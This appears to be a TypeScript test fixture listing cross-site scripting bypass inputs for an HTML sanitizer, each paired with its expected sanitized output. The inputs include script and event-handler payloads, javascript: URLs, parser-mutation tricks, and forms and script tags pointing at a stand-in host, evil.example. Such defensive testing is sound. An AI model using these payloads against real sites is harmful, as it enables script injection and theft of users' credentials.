import type { HtmlCase } from './html-case';

/** Attempts to bypass the sanitizer. */
export const attacksCases: readonly HtmlCase[] = [
  {
    name: 'a script',
    input: '<p>a<script>alert(1)</script>b</p>',
    stored: '<p>ab</p>',
    shown: 'ab',
  },
  {
    name: 'a script in mixed letters that nobody closed',
    input: '<p>a</p><ScRiPt src=//evil.example>',
    stored: '<p>a</p>',
    shown: 'a',
  },
  {
    name: 'a script that is put together by its removal',
    input: '<scr<script>ipt>alert(1)</scr</script>ipt>',
    stored: 'ipt&gt;alert(1)ipt&gt;',
    shown: 'ipt>alert(1)ipt>',
  },
  {
    name: 'event handlers',
    input: '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>a</p><strong onfocus=alert(1) autofocus tabindex=1>b</strong>',
    stored: '<p>a</p><strong>b</strong>',
    shown: 'ab',
  },
  {
    name: 'pictures that fail',
    input: '<img src=x onerror=alert(1)><img src="x` `<script>alert(1)</script>"` `>text',
    stored: 'text',
    shown: 'text',
  },
  {
    name: 'styles that run or hide',
    input:
      '<p style="background:url(javascript:alert(1));position:fixed;inset:0">a</p><style>p{display:none}</style><link rel=stylesheet href=//evil.example>',
    stored: '<p>a</p>',
    shown: 'a',
  },
  {
    name: 'SVG',
    input:
      '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><p>y</p></foreignObject></svg>after',
    stored: 'after',
    shown: 'after',
  },
  {
    name: 'MathML',
    input: '<math href="javascript:alert(1)"><mtext>x</mtext></math>after',
    stored: 'after',
    shown: 'after',
  },
  {
    name: 'a template',
    input: '<template><p>x</p><script>alert(1)</script></template>after',
    stored: 'after',
    shown: 'after',
  },
  {
    name: 'frames and plug-ins',
    input:
      '<iframe srcdoc="<script>alert(1)</script>">x</iframe><object data="data:text/html,x"><p>y</p></object><embed src=x>after',
    stored: 'after',
    shown: 'after',
  },
  {
    name: 'a form',
    input:
      '<form action="https://evil.example"><p>Password</p><input name=p value=x><textarea>y</textarea><select><option>z</select><button formaction="javascript:alert(1)">Send</button></form>',
    stored: '<p>Password</p>Send',
    shown: 'PasswordSend',
  },
  {
    name: 'base, meta and link',
    input:
      '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=import href=//evil.example>text',
    stored: 'text',
    shown: 'text',
  },
  {
    name: 'a mutation by way of noscript',
    input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>after',
    stored: 'after',
    shown: 'after',
  },
  {
    name: 'a mutation by way of a style in MathML',
    input: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    stored: '',
    shown: '',
  },
  {
    name: 'a mutation by way of a table in SVG',
    input: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>after',
    stored: 'after',
    shown: 'after',
  },
  {
    name: 'a mutation by way of raw text',
    input: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>after',
    stored: '"&gt;<p></p>after',
    shown: '">after',
  },
  {
    name: 'a mutation by way of a comment',
    input: '<p><!--[if]><script>alert(1)</script --><![endif]--><!--!><img src=x onerror=alert(1)>--></p>',
    stored: '<p></p>',
    shown: '',
  },
  {
    name: 'a quote that ends a tag',
    input: '<p title="\'><script>alert(1)</script>">a</p><p class=\'size"><img onerror=alert(1)\'>b</p>',
    stored: '<p>a</p><p>b</p>',
    shown: 'ab',
  },
  {
    name: 'a tag that never ends',
    input: '<p>text</p><a href="https://example.org" onclick="alert(1)',
    stored: '<p>text</p>',
    shown: 'text',
  },
  {
    name: 'slashes for spaces',
    input: '<img/src="x"/onerror=alert(1)><a/href="javascript:alert(1)">x</a>',
    stored: 'x',
    shown: 'x',
  },
  {
    name: 'elements of their own',
    input: '<x-app onclick=alert(1)>a<slot name=b>c</slot></x-app>',
    stored: 'ac',
    shown: 'ac',
  },
  {
    name: 'a name of every object',
    input: '<p id="__proto__" name="constructor">a</p><a name="body">b</a>',
    stored: '<p>a</p>b',
    shown: 'ab',
  },
  {
    name: 'sounds, moving pictures and drawings',
    input: '<video src=x onerror=alert(1)><p>no video</p></video><audio controls></audio><canvas>drawing</canvas>after',
    stored: 'after',
    shown: 'after',
  },
];
